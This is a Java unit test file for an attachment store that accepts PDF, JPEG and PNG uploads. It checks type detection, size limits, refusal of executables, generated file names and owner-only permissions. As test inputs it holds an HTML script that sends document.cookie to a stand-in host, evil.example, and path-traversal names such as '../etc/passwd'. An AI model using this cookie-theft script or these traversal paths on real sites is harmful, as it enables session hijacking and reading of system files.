package jp.mamis.ejb.attachment;

import jp.mamis.domain.MamisException;
import jp.mamis.domain.attachment.FileType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

@DisplayName("AttachmentStore keeps accepted uploads under generated names and nothing else")
class AttachmentStoreTest {

    private static final long MAX = 200_000;

    @TempDir
    Path tmp;

    private Path directory;
    private AttachmentStore store;

    @BeforeEach
    void setUp() {
        directory = tmp.resolve("files");
        store = new AttachmentStore(directory);
    }

    @Test
    @DisplayName("a PDF is stored with its size and SHA-256 and reads back unchanged")
    void storesPdf() throws Exception {
        byte[] pdf = pdf(150_000);

        AttachmentStore.Stored stored = store.store(new ByteArrayInputStream(pdf), MAX);

        assertEquals(FileType.PDF, stored.type());
        assertEquals(pdf.length, stored.size());
        assertEquals(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(pdf)), stored.sha256Hex());
        assertTrue(stored.storedName().matches("[0-9a-f]{32}"), stored.storedName());
        try (InputStream in = store.open(stored.storedName())) {
            assertArrayEquals(pdf, in.readAllBytes());
        }
        assertEquals(List.of(directory.resolve(stored.storedName().substring(0, 2)).resolve(stored.storedName())), files());
    }

    @Test
    @DisplayName("the SHA-256 is the standard one (known value for a tiny PDF)")
    void knownDigest() {
        byte[] content = "%PDF-".getBytes(StandardCharsets.US_ASCII);
        AttachmentStore.Stored stored = store.store(new ByteArrayInputStream(content), MAX);
        // printf '%PDF-' | sha256sum
        assertEquals("38523c087796e5d5dd1cf9bad1fb026781a838dd9dd2cf8af58b9f6502a46778", stored.sha256Hex());
        assertEquals(5, stored.size());
    }

    @Test
    @DisplayName("JPEG and PNG are recognised from their content")
    void imageTypes() {
        byte[] jpeg = withHead(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0}, 1000);
        byte[] png = withHead(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A}, 1000);
        assertEquals(FileType.JPEG, store.store(new ByteArrayInputStream(jpeg), MAX).type());
        assertEquals(FileType.PNG, store.store(new ByteArrayInputStream(png), MAX).type());
    }

    @Test
    @DisplayName("every upload gets a fresh name")
    void freshNames() {
        String first = store.store(new ByteArrayInputStream(pdf(100)), MAX).storedName();
        String second = store.store(new ByteArrayInputStream(pdf(100)), MAX).storedName();
        assertNotEquals(first, second);
        assertEquals(2, files().size());
    }

    @Test
    @DisplayName("a Linux executable (whatever it was called) is refused and nothing is left")
    void executableRefused() {
        byte[] elf = withHead(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0}, 5000);
        MamisException e = assertThrows(MamisException.class, () -> store.store(new ByteArrayInputStream(elf), MAX));
        assertEquals("attachment.type", e.getKey());
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("a Windows executable is refused and nothing is left")
    void windowsExecutableRefused() {
        byte[] exe = withHead(new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0}, 5000);
        MamisException e = assertThrows(MamisException.class, () -> store.store(new ByteArrayInputStream(exe), MAX));
        assertEquals("attachment.type", e.getKey());
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("an HTML page renamed to .pdf is refused and nothing is left")
    void htmlRefused() {
        byte[] html = "<html><script>document.location='https://evil.example/'+document.cookie</script></html>"
                .getBytes(StandardCharsets.UTF_8);
        MamisException e = assertThrows(MamisException.class, () -> store.store(new ByteArrayInputStream(html), MAX));
        assertEquals("attachment.type", e.getKey());
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("an empty upload is refused")
    void emptyRefused() {
        MamisException e = assertThrows(MamisException.class, () -> store.store(InputStream.nullInputStream(), MAX));
        assertEquals("attachment.empty", e.getKey());
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("one byte over the limit is refused with the limit as argument, and nothing is left")
    void oversizeRefused() {
        MamisException e = assertThrows(MamisException.class,
                () -> store.store(new ByteArrayInputStream(pdf((int) MAX + 1)), MAX));
        assertEquals("attachment.tooLarge", e.getKey());
        assertArrayEquals(new Object[] {MAX}, e.getArgs());
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("exactly the limit is accepted")
    void exactlyTheLimit() {
        assertEquals(MAX, store.store(new ByteArrayInputStream(pdf((int) MAX)), MAX).size());
    }

    @Test
    @DisplayName("a limit smaller than the first bytes still refuses")
    void tinyLimit() {
        MamisException e = assertThrows(MamisException.class, () -> store.store(new ByteArrayInputStream(pdf(100)), 4));
        assertEquals("attachment.tooLarge", e.getKey());
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("an endless upload is cut off just after the limit, not read to its end")
    void endlessUploadStopsEarly() {
        CountingEndlessPdf endless = new CountingEndlessPdf();
        MamisException e = assertThrows(MamisException.class, () -> store.store(endless, MAX));
        assertEquals("attachment.tooLarge", e.getKey());
        assertEquals(MAX + 1, endless.delivered, "reads stop one byte past the limit");
        assertEquals(List.of(), files());
    }

    @Test
    @DisplayName("a broken upload stream leaves nothing and reports the I/O failure")
    void brokenStream() {
        InputStream broken = new SequenceInputStream(new ByteArrayInputStream(pdf(50_000)), new InputStream() {
            @Override
            public int read() throws IOException {
                throw new IOException("connection reset");
            }
        });
        UncheckedIOException e = assertThrows(UncheckedIOException.class, () -> store.store(broken, MAX));
        assertEquals("connection reset", e.getCause().getMessage());
        assertEquals(List.of(), files());
    }

    @ParameterizedTest
    @ValueSource(strings = {"../etc/passwd", "../../../../etc/passwd", "/etc/passwd", "..", "",
            "0123456789abcdef0123456789ABCDEF", "0123456789abcdef0123456789abcde", "01/0123456789abcdef0123456789abcdef",
            "0123456789abcdef0123456789abcdef/../../x", "upload-123.tmp"})
    @DisplayName("names that the store does not generate are refused by open and delete")
    void foreignNamesRefused(String name) {
        assertThrows(IllegalArgumentException.class, () -> store.open(name));
        assertThrows(IllegalArgumentException.class, () -> store.delete(name));
    }

    @Test
    @DisplayName("a null name is refused")
    void nullName() {
        assertThrows(IllegalArgumentException.class, () -> store.open(null));
    }

    @Test
    @DisplayName("delete removes the file; deleting again does nothing; opening it then fails")
    void deleteStored() {
        String name = store.store(new ByteArrayInputStream(pdf(1000)), MAX).storedName();
        store.delete(name);
        assertEquals(List.of(), files());
        store.delete(name);
        assertThrows(UncheckedIOException.class, () -> store.open(name));
    }

    @Test
    @DisplayName("directories and files are owner-only where the file system has POSIX permissions")
    void ownerOnly() throws IOException {
        String name = store.store(new ByteArrayInputStream(pdf(1000)), MAX).storedName();
        if (!directory.getFileSystem().supportedFileAttributeViews().contains("posix")) {
            return;
        }
        Path file = directory.resolve(name.substring(0, 2)).resolve(name);
        assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(directory)));
        assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file.getParent())));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file)));
    }

    @Test
    @DisplayName("the directory comes from MAMIS_FILES_DIR, else ~/.mamis/files")
    void configuredDirectory() {
        assertEquals(Path.of(System.getProperty("user.home"), ".mamis", "files"), AttachmentStore.configuredDirectory(null));
        assertEquals(Path.of(System.getProperty("user.home"), ".mamis", "files"), AttachmentStore.configuredDirectory("  "));
        assertEquals(Path.of("/srv/mamis/files"), AttachmentStore.configuredDirectory("/srv/mamis/files"));
    }

    @Test
    @DisplayName("nothing is created until something is stored")
    void lazyDirectory() {
        assertFalse(Files.exists(directory));
    }

    /** Regular files anywhere under the store's directory. */
    private List<Path> files() {
        if (!Files.exists(directory)) {
            return List.of();
        }
        try (Stream<Path> walk = Files.walk(directory)) {
            return walk.filter(Files::isRegularFile).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] pdf(int size) {
        return withHead("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), size);
    }

    private static byte[] withHead(byte[] head, int size) {
        byte[] content = new byte[size];
        new Random(size).nextBytes(content);
        System.arraycopy(head, 0, content, 0, Math.min(head.length, size));
        return content;
    }

    /** A PDF that never ends; counts how many bytes were handed out. */
    private static final class CountingEndlessPdf extends InputStream {
        private static final byte[] HEAD = "%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII);
        long delivered;

        @Override
        public int read() {
            int b = delivered < HEAD.length ? HEAD[(int) delivered] : 'x';
            delivered++;
            return b;
        }

        @Override
        public int read(byte[] b, int off, int len) {
            for (int i = 0; i < len; i++) {
                b[off + i] = (byte) read();
            }
            return len;
        }
    }
}
